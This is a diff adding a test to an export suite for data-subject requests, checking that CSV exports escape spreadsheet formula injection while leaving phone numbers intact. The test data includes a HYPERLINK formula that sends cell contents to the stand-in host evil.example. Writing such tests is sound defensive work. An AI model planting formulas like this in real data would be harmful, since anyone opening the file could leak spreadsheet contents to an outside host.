@@ -72,6 +72,22 @@ describe('data-subject requests', () => {
     assert.equal(portable.status, 'completed');
   });
 
+  it('guards spreadsheet formulas in the export CSVs and leaves phone numbers as they are', async () => {
+    const phone = '+4915112345678';
+    const name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+    await t.api.post('/v1/contacts', { key, body: { phone, name, tags: ['@risk'] } });
+    await send(t, key, { to: phone, body: '-5 points, see +4915112345678' });
+    const finished = await done((await file('access', { phone })).body.id);
+    const download = await fetch(t.url + finished.export.url, { headers: { authorization: `Bearer ${key}` } });
+    const files = unzipSync(new Uint8Array(await download.arrayBuffer()));
+    const contactCsv = strFromU8(files['contact.csv']!);
+    assert.ok(contactCsv.includes(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",`), contactCsv);
+    assert.ok(contactCsv.includes(`,${phone},`), 'an E.164 number is no formula and stays importable');
+    assert.ok(contactCsv.includes(`"'@risk"`), contactCsv);
+    assert.match(strFromU8(files['messages.csv']!), /,"'-5 points, see \+4915112345678",/);
+    assert.equal(JSON.parse(strFromU8(files['export.json']!)).contact.name, name, 'JSON holds the value as it is');
+  });
+
   it('rectifies a contact, audited without the values', async () => {
     const contact = (await t.api.post('/v1/contacts', { key, body: { phone: '+4915133330002', name: 'Grace Hoper' } })).body;
     const r = await done((await file('rectification', { phone: '+4915133330002' }, { changes: { name: 'Grace Hopper' } })).body.id);
